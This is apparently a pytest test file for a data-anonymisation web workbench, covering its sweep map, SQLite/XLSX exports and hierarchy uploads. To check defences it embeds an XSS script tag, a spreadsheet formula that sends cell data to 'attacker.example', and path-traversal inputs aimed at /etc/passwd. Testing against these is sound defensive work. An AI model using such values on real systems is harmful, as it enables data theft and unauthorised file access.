"""The Sweep page (risk-utility map), the SQLite export and the hierarchy upload per column
(issue 20: the workbench's remaining parts)."""

from __future__ import annotations

import html
import io
import pathlib
import re
import sqlite3
import time
from typing import Any

import pandas as pd
import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from microagg.datasets import load_dataset

from .conftest import csrf, download, open_census, settled, upload

EVIL = "<script>alert(1)</script>"
CITIES = ["Lyon", "Grenoble", "Nice", "Marseille", "Paris", "Lille"]
HIERARCHY = ("Lyon;ARA;South;*\nGrenoble;ARA;South;*\nNice;PACA;South;*\n"
             "Marseille;PACA;South;*\nParis;IDF;North;*\nLille;HDF;North;*\n")




def _sweep(client: TestClient, **fields: str) -> Any:
    data = {"k": "3 5", "method-mdav": "on", "random_state": "0", **fields}
    return settled(client, client.post("/sweep", data={**data,
                                                       "csrf_token": csrf(client, "/sweep")}))


def _release(client: TestClient, **fields: str) -> str:
    """Protect with the form, then wait for the Result page to show the release."""
    data = {"k": "5", "method": "mdav", "random_state": "7", **fields}
    response = client.post("/protect", data={**data, "csrf_token": csrf(client, "/protect")})
    assert response.status_code == 200, response.text
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        page = client.get("/result").text
        if 'id="achieved-k"' in page:
            return page
        time.sleep(0.2)
    raise AssertionError("no release on the Result page")


def _cities(rows: int = 36) -> bytes:
    counts = {"Lyon": 2, "Grenoble": 2, "Nice": 2, "Marseille": 2, "Paris": 4, "Lille": 1}
    cities = [c for c, n in counts.items() for _ in range(n)] * (rows // 13 + 1)
    lines = [f"{cities[i]},{1000 + 37 * i}" for i in range(rows)]
    return ("city,income\n" + "\n".join(lines) + "\n").encode()


def _hierarchy(client: TestClient, column: str, content: str | bytes,
               name: str = "h.csv", token: str | None = None) -> Any:
    data = content.encode() if isinstance(content, str) else content
    return client.post("/roles/hierarchy",
                       data={"csrf_token": token or csrf(client, "/roles"), "column": column},
                       files={"file": (name, data)})


def _city_table(client: TestClient) -> None:
    """The cities table with city the only quasi-identifier (income: other)."""
    assert upload(client, "cities.csv", _cities()).status_code == 200
    client.get("/roles")
    response = client.post("/roles", data={"csrf_token": csrf(client, "/roles"),
                                           "role-0": "quasi-identifier", "type-0": "categorical",
                                           "role-1": "other", "type-1": "numeric"})
    assert "Roles saved" in response.text


# --------------------------------------------------------------------------- sweep page

def test_sweep_page_without_a_table(client: TestClient) -> None:
    response = client.get("/sweep")
    assert response.status_code == 200
    assert 'href="/data"' in response.text and 'id="sweep-form"' not in response.text
    assert 'href="/sweep" aria-current="page"' in response.text


def test_sweep_form_preselects_the_recommended_method(client: TestClient) -> None:
    open_census(client)
    page = client.get("/sweep").text
    assert 'name="method-mdav" value="on" checked' in page
    assert 'name="method-md" value="on">' in page
    assert "method-insensitive" not in page  # it needs an epsilon
    assert 'name="k" type="text" value="3 5 10"' in page
    upload(client, "people.csv", b"age,zone\n30,a\n40,b\n50,a\n60,b\n")
    assert 'name="method-mage" value="on" checked' in client.get("/sweep").text


def test_sweep_draws_the_map_with_the_pareto_front(client: TestClient) -> None:
    open_census(client)
    response = _sweep(client, **{"method-md": "on"})
    assert response.status_code == 200
    assert response.url.path == "/sweep"
    page = response.text
    assert '<svg id="sweep-map"' in page
    points = re.findall(r'<a class="point" href="([^"]+)"><title>([^<]+)</title>'
                        r'<circle class="series-(\d)( pareto)?"', page)
    assert len(points) == 4
    assert {html.unescape(p[0]) for p in points} == {
        f"/protect?k={k}&method={m}" for k in (3, 5) for m in ("mdav", "md")}
    assert any(p[3] for p in points)  # some on the front
    assert {p[2] for p in points} == {"0", "1"}  # one colour per method
    assert re.search(r"mdav, k=3: loss \d+\.\d{3} %, risk [\d.e+-]+ %", points[0][1])
    assert '<polyline class="front" points="' in page
    assert "information loss, SSE/SST (%)" in page
    assert "disclosure risk, DLD (% of records linked)" in page
    assert len(re.findall(r'<text class="tick"', page)) >= 6  # ticks on both axes
    legend = page[page.index('<ul id="legend"'):page.index("</ul>", page.index('id="legend"'))]
    assert "mdav" in legend and "md" in legend and "Pareto front" in legend
    table = page[page.index('<table id="runs">'):page.index("</table>", page.index("runs"))]
    assert table.count("use this") == 4
    assert 'href="/protect?k=5&amp;method=md"' in table
    assert 'name="k" type="text" value="3 5"' in page  # the form keeps the last grid
    assert 'name="method-md" value="on" checked' in page


def test_picking_a_point_prefills_the_protect_page(client: TestClient) -> None:
    open_census(client)
    page = client.get("/protect?k=3&method=md&l=2&t=0.3").text
    assert '<input id="k" name="k" type="number" min="2" step="1" value="3"' in page
    assert '<option value="md" selected>' in page
    assert 'name="l" type="text" inputmode="decimal" value="2"' in page
    assert 'name="t" type="text" inputmode="decimal" value="0.3"' in page


@pytest.mark.parametrize("query", [f"k={EVIL}&method={EVIL}&l={EVIL}&t=nan",
                                   "k=1&method=nosuch&l=0&t=2", "k=%C2%B2&method=&l=inf"])
def test_protect_ignores_invalid_query_values(client: TestClient, query: str) -> None:
    open_census(client)
    response = client.get(f"/protect?{query}")
    assert response.status_code == 200
    page = response.text
    assert "<script>" not in page
    assert 'name="k" type="number" min="2" step="1" value="5"' in page
    assert '<option value="mdav" selected>' in page
    assert 'name="l" type="text" inputmode="decimal" value=""' in page


@pytest.mark.parametrize(("fields", "message"), [
    ({"k": ""}, "k is required: one or more whole numbers >= 2"),
    ({"k": "3 x"}, "k must be whole numbers >= 2 separated by spaces; got 'x' in '3 x'."),
    ({"k": "1"}, "k must be whole numbers >= 2 separated by spaces; got '1'"),
    ({"k": "2.5"}, "got '2.5'"),
    ({"method-mdav": ""}, "Choose at least one method (allowed: mdav,"),
    ({"l": "0.5"}, "l must be numbers >= 1 separated by spaces (blank: none); got '0.5'."),
    ({"t": "2"}, "t must be numbers in [0, 1] separated by spaces (blank: none); got '2'."),
    ({"random_state": "-1"}, "random_state must be a whole number in [0, 2**32 - 1]; got '-1'"),
    ({"k": " ".join(map(str, range(2, 42))), "method-md": "on"},
     "The grid has 80 runs (2 method(s) x 40 value(s) of k x 1 model(s)); at most 60"),
])
def test_sweep_form_errors(client: TestClient, fields: dict[str, str], message: str) -> None:
    open_census(client)
    response = _sweep(client, **fields)
    assert response.status_code == 400
    text = html.unescape(response.text)
    assert 'role="alert"' in text and message in text
    if fields.get("k"):
        assert f'value="{fields["k"]}"' in text  # the form keeps what was typed
    assert '<svg id="sweep-map"' not in text


def test_refused_runs_are_listed_not_plotted(client: TestClient) -> None:
    open_census(client)
    page = html.unescape(_sweep(client, k="4", l="2").text)
    assert len(re.findall(r'<a class="point"', page)) == 1  # k alone; l=2 is refused
    assert "refused: " in page and "l-diversity needs at least one sensitive column" in page
    assert "mdav, l=2" not in page[:page.index('<table id="runs">')]


def test_sweep_without_a_successful_run(client: TestClient) -> None:
    open_census(client)
    page = _sweep(client, k="5000").text
    assert 'id="no-map"' in page and '<svg id="sweep-map"' not in page
    assert "refused: " in page


def test_sweep_escapes_column_names(client: TestClient) -> None:
    rows = "\n".join(f"{(i * 7) % 13},{i % 5}" for i in range(40))
    upload(client, "evil.csv", f"{EVIL},b\n{rows}\n".encode())
    assert client.get("/roles").status_code == 200
    page = _sweep(client, k="3 4", l="2").text
    assert EVIL not in page
    escaped = html.escape(EVIL, quote=False)
    svg = page[page.index('<svg id="sweep-map"'):page.index("</svg>")]
    assert escaped in svg
    assert escaped in page[page.index('id="sweep-keys"'):page.index('<table id="runs">')]


def test_a_new_table_hides_the_old_sweep(client: TestClient) -> None:
    open_census(client)
    assert '<svg id="sweep-map"' in _sweep(client, k="3").text
    open_census(client)
    assert '<svg id="sweep-map"' not in client.get("/sweep").text


def test_run_sweep_is_a_pure_function_with_progress(tmp_path: pathlib.Path) -> None:
    from microagg.web import roles
    from microagg.web.sweep_page import parse_sweep_form, run_sweep

    df = load_dataset("census").data.iloc[:200]
    schema, _ = roles.propose(df)
    options = parse_sweep_form({"k": "3,5", "method-mdav": "on", "t": "0.5"})
    assert options["models"] == [("k", {}), ("t=0.5", {"t": 0.5})]
    steps: list[tuple[int, int, str]] = []
    table = run_sweep(df, schema, tmp_path, options, on_step=lambda *a: steps.append(a))
    assert table[["method", "k"]].values.tolist() == [["mdav", 3], ["mdav", 3], ["mdav", 5],
                                                      ["mdav", 5]]
    assert steps[0][:2] == (0, 4) and steps[-1][:2] == (4, 4)
    assert list(tmp_path.iterdir()) == []  # the schema's TOML is removed


# ------------------------------------------------------------------------- csrf checks

@pytest.mark.parametrize(("path", "multipart"), [
    ("/sweep", False), ("/roles/hierarchy", True), ("/roles/hierarchy/remove", False)])
def test_new_forms_need_the_csrf_token(client: TestClient, path: str, multipart: bool) -> None:
    _city_table(client)
    for token in (None, "wrong"):
        data = {"column": "city", "k": "3", "method-mage": "on"}
        if token is not None:
            data["csrf_token"] = token
        files = {"file": ("h.csv", HIERARCHY.encode())} if multipart else None
        response = client.post(path, data=data, files=files)
        assert response.status_code == 403
        assert "CSRF" in response.text
    assert "hierarchy" not in client.get("/roles/schema.toml").text


@pytest.mark.parametrize("path", ["/sweep", "/export/published.sqlite",
                                  "/export/hierarchies/1.csv"])
def test_new_pages_need_the_token(app: Starlette, path: str) -> None:
    assert TestClient(app).get(path).status_code == 403


# ------------------------------------------------------------------------ sqlite export

def test_sqlite_download_is_the_published_table(client: TestClient,
                                                tmp_path: pathlib.Path) -> None:
    open_census(client)
    _release(client)
    page = client.get("/export").text
    assert 'id="download-sqlite" href="/export/published.sqlite"' in page
    response = download(client, "/export/published.sqlite")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="published.sqlite"'
    file = tmp_path / "published.sqlite"
    file.write_bytes(response.content)
    with sqlite3.connect(file) as connection:
        tables = [r[0] for r in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")]
        published = pd.read_sql("SELECT * FROM published", connection)
    assert tables == ["published"]
    original = load_dataset("census").data
    assert list(published.columns) == list(original.columns)
    assert len(published) == len(original)
    assert published.groupby(list(published.columns)).size().min() >= 5
    csv = pd.read_csv(io.BytesIO(download(client, "/export/published.csv").content))
    pd.testing.assert_frame_equal(published, csv, check_dtype=False)


def test_sqlite_download_without_a_release_leads_to_export(client: TestClient) -> None:
    response = download(client, "/export/published.sqlite")
    assert response.url.path == "/export"


# ------------------------------------------------------------------------- xlsx export

def test_xlsx_download_holds_text_never_formulas(client: TestClient,
                                                tmp_path: pathlib.Path) -> None:
    """Respondents' text (a cell and a header beginning with =, +, - or @) stays text."""
    openpyxl = pytest.importorskip("openpyxl")
    texts = ['=HYPERLINK("http://attacker.example/?leak="&A2,"details")', "+1+2", "-3",
             "@SUM(A1)"]
    rows = [f"{city},{1000 + 37 * i},\"{texts[i % 4].replace(chr(34), chr(34) * 2)}\""
            for i, city in enumerate(CITIES * 6)]
    content = "city,income,=note\n" + "\n".join(rows) + "\n"
    assert upload(client, "answers.csv", content.encode()).status_code == 200
    client.get("/roles")
    response = client.post("/roles", data={"csrf_token": csrf(client, "/roles"),
                                           "role-0": "quasi-identifier", "type-0": "categorical",
                                           "role-1": "other", "type-1": "numeric",
                                           "role-2": "other", "type-2": "categorical"})
    assert "Roles saved" in response.text
    _release(client, k="3", method="mage")
    assert 'id="download-xlsx"' in client.get("/export").text
    response = download(client, "/export/published.xlsx")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="published.xlsx"'
    file = tmp_path / "published.xlsx"
    file.write_bytes(response.content)
    sheet = openpyxl.load_workbook(file).active
    notes = [row[0] for row in sheet.iter_rows(min_col=3, max_col=3)]
    assert [(c.value, c.data_type) for c in notes[:5]] == [("=note", "s")] + [
        (text, "s") for text in texts]
    assert {c.data_type for c in notes} == {"s"}
    csv = pd.read_csv(io.BytesIO(download(client, "/export/published.csv").content))
    pd.testing.assert_frame_equal(pd.read_excel(file), csv, check_dtype=False)


# ---------------------------------------------------------------------- hierarchies

def test_roles_page_offers_a_hierarchy_per_categorical_column(client: TestClient) -> None:
    _city_table(client)
    page = client.get("/roles").text
    table = page[page.index('<table id="hierarchies">'):]
    assert '<th scope="row">city</th>' in table
    assert '<th scope="row">income</th>' not in table  # numeric
    assert 'action="/roles/hierarchy"' in table and 'name="column" value="city"' in table


def test_hierarchy_upload_generalizes_the_release(client: TestClient) -> None:
    _city_table(client)
    response = _hierarchy(client, "city", HIERARCHY, name="../../etc/cities.csv")
    assert response.status_code == 200
    text = html.unescape(response.text)
    assert "Hierarchy of column 'city' saved as hierarchies/1.csv (3 level(s)" in text
    assert "level 1: 4 label(s): ARA, PACA, IDF, HDF" in text
    assert "level 2: 2 label(s): South, North" in text
    assert 'hierarchy = "hierarchies/1.csv"' in client.get("/roles/schema.toml").text
    _release(client, k="3", method="mage")
    published = pd.read_csv(io.BytesIO(download(client, "/export/published.csv").content))
    assert published.groupby("city").size().min() >= 3
    labels = set(published["city"])
    assert labels <= {*CITIES, "ARA", "PACA", "IDF", "HDF", "South", "North", "*"}
    assert labels & {"ARA", "PACA", "IDF", "HDF", "South", "North"}  # generalized, not *
    export = client.get("/export").text
    assert 'href="/export/hierarchies/1.csv"' in export
    assert "<code>hierarchies/1.csv</code>" in export
    assert 'hierarchy = "hierarchies/1.csv"' in client.get("/export/schema.toml").text
    assert client.get("/export/hierarchies/1.csv").text == HIERARCHY
    for name in ("2.csv", "..%2F1.csv", "1.CSV", "01.csv", "x"):
        assert client.get(f"/export/hierarchies/{name}").status_code == 404, name


def test_sweep_uses_the_uploaded_hierarchy(client: TestClient) -> None:
    _city_table(client)
    _hierarchy(client, "city", HIERARCHY)
    page = html.unescape(_sweep(client, **{"k": "3 6", "method-mdav": "", "method-mage": "on"}
                                ).text)
    assert len(re.findall(r'<a class="point"', page)) == 2
    assert "disclosure risk, mean 1 / class size (%)" in page  # categorical: class risk
    assert "refused:" not in page  # no run refused (the methods not offered are listed)


def test_exported_schema_and_hierarchy_reproduce_the_release(
        client: TestClient, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from typer.testing import CliRunner

    from microagg.cli import EXIT_NOT_PROTECTED
    from microagg.cli import app as cli_app

    _city_table(client)
    _hierarchy(client, "city", HIERARCHY)
    _release(client, k="3", method="mage")
    (tmp_path / "hierarchies").mkdir()
    (tmp_path / "hierarchies" / "1.csv").write_bytes(
        client.get("/export/hierarchies/1.csv").content)
    (tmp_path / "schema.toml").write_bytes(client.get("/export/schema.toml").content)
    (tmp_path / "cities.csv").write_bytes(_cities())
    page = html.unescape(client.get("/export").text)
    found = re.search(r'<pre id="command">microagg (.*?)</pre>', page)
    assert found is not None
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli_app, found.group(1).split())
    # the same release, with the same verdict (income, published unchanged, breaks k)
    assert result.exit_code == EXIT_NOT_PROTECTED, result.output
    summary = client.get("/export/summary.json").json()
    assert summary["verdict"]["headline"] in " ".join(
        re.sub(r"[│┌┐└┘├┤─┬┴┼]+", " ", result.stdout).split())
    assert (tmp_path / "out.csv").read_bytes() == download(client, "/export/published.csv").content


@pytest.mark.parametrize(("column", "content", "message"), [
    ("city", HIERARCHY.replace("Nice;PACA;South;*\n", "").replace("Lille;HDF;North;*\n", ""),
     "h.csv: 2 value(s) of column 'city' are not leaves of the hierarchy: 'Nice', 'Lille'."),
    ("city", HIERARCHY.replace("Lille;HDF;North;*", "Lille;HDF;North;root"),
     "h.csv: The hierarchy of column 'city' (h.csv) has 2 roots"),
    ("city", HIERARCHY + "Lyon;ARA;South;*\n", "lists 'Lyon' more than once"),
    ("city", "", "Hierarchy file for column 'city' is empty: h.csv"),
    ("income", HIERARCHY, "Column 'income' has type 'numeric': a hierarchy applies to the "
                          "types categorical, ordinal"),
    ("nosuch", HIERARCHY, "No column 'nosuch' in this table's roles"),
])
def test_hierarchy_upload_errors(client: TestClient, column: str, content: str,
                                 message: str) -> None:
    _city_table(client)
    response = _hierarchy(client, column, content)
    assert response.status_code == 400
    text = html.unescape(response.text)
    assert message in text
    assert "hierarchy" not in client.get("/roles/schema.toml").text


def test_hierarchy_file_must_be_csv(client: TestClient) -> None:
    _city_table(client)
    response = _hierarchy(client, "city", HIERARCHY, name="h.exe")
    assert response.status_code == 400
    assert "unsupported extension; allowed: .csv, .txt" in response.text


def test_hierarchy_can_be_removed(client: TestClient) -> None:
    _city_table(client)
    _hierarchy(client, "city", HIERARCHY)
    response = client.post("/roles/hierarchy/remove",
                           data={"csrf_token": csrf(client, "/roles"), "column": "city"})
    assert response.status_code == 200
    assert "Hierarchy of column &#39;city&#39; removed." in response.text
    assert "hierarchy" not in client.get("/roles/schema.toml").text
    again = client.post("/roles/hierarchy/remove",
                        data={"csrf_token": csrf(client, "/roles"), "column": "city"})
    assert again.status_code == 400 and "has no hierarchy to remove" in again.text
    second = _hierarchy(client, "city", HIERARCHY)
    assert "saved as hierarchies/2.csv" in second.text


def test_hierarchy_escapes_column_names(client: TestClient) -> None:
    lines = "\n".join(f"{CITIES[i % 6]},{i}" for i in range(30))
    upload(client, "evil.csv", f"{EVIL},n\n{lines}\n".encode())
    client.get("/roles")
    response = _hierarchy(client, EVIL, HIERARCHY)
    assert response.status_code == 200, response.text
    assert EVIL not in response.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text
    _release(client, k="3", method="mage")
    export = client.get("/export").text
    assert EVIL not in export and "Hierarchy of column &lt;script&gt;" in export


@pytest.mark.parametrize("path", ["/etc/passwd", "../../x.csv", "hierarchies/7.csv",
                                  "hierarchies/../../../etc/passwd", "hierarchies/1.csv/"])
def test_uploaded_schema_may_name_only_stored_hierarchies(
        app: Starlette, client: TestClient, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    from microagg.hierarchy import Hierarchy

    opened: list[str] = []
    original = Hierarchy.from_csv.__func__  # type: ignore[attr-defined]

    def spy(cls: Any, file: Any, **options: Any) -> Any:
        opened.append(str(file))
        return original(cls, file, **options)

    monkeypatch.setattr(Hierarchy, "from_csv", classmethod(spy))
    _city_table(client)
    _hierarchy(client, "city", HIERARCHY)
    text = ('[columns.city]\nrole = "quasi-identifier"\ntype = "categorical"\n'
            f'hierarchy = "{path}"\n[columns.income]\nrole = "other"\n')
    response = client.post("/roles/upload", data={"csrf_token": csrf(client, "/roles")},
                           files={"file": ("mine.toml", text.encode())})
    assert response.status_code == 400
    assert (f"mine.toml: [columns.city]: hierarchy {path!r} is not a file uploaded in this "
            "session; the workbench opens no other file") in html.unescape(response.text)
    root = app.state.store.root.resolve()
    assert opened and all(pathlib.Path(file).resolve().is_relative_to(root) for file in opened)


def test_uploaded_schema_may_name_a_stored_hierarchy(client: TestClient) -> None:
    _city_table(client)
    _hierarchy(client, "city", HIERARCHY)
    schema = client.get("/roles/schema.toml").content
    client.post("/roles/hierarchy/remove",
                data={"csrf_token": csrf(client, "/roles"), "column": "city"})
    response = client.post("/roles/upload", data={"csrf_token": csrf(client, "/roles")},
                           files={"file": ("schema.toml", schema)})
    assert response.status_code == 200, response.text
    assert "Schema schema.toml applied." in response.text
    assert "level 1: 4 label(s)" in response.text
    # a stored file that does not cover the column's values is refused
    upload(client, "towns.csv", b"city,income\nRome,1\nRome,2\nOslo,3\nOslo,4\n")
    client.get("/roles")
    refused = client.post("/roles/upload", data={"csrf_token": csrf(client, "/roles")},
                          files={"file": ("schema.toml", schema)})
    assert refused.status_code == 400
    assert "2 value(s) of column &#39;city&#39; are not leaves" in refused.text
